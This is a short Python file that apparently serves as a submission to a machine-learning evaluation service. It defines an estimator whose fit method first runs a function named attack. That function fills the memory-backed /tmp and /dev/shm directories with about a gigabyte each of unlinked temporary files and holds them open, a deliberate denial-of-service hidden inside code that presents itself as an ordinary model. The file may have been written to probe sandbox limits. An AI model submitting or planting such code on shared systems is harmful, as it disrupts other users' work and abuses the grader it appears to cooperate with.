"""Fills /tmp and /dev/shm, which are memory, with files that it has removed."""

import os
import tempfile
import time

from nearest import NearestMean


def attack():
    files, written = [], 0
    for folder in ('/dev/shm', '/tmp'):
        try:
            for _ in range(16):
                file = tempfile.TemporaryFile(dir=folder)
                files.append(file)
                for _ in range(64):
                    file.write(b'x' * (1 << 20))
                    written += 1 << 20
                file.flush()
        except OSError as error:
            print(folder, repr(error), flush=True)
    print(f'wrote {written >> 20} MB', flush=True)
    time.sleep(3)


class Model(NearestMean):
    def fit(self, X, y):
        attack()
        return super().fit(X, y)


def get_estimator():
    return Model()
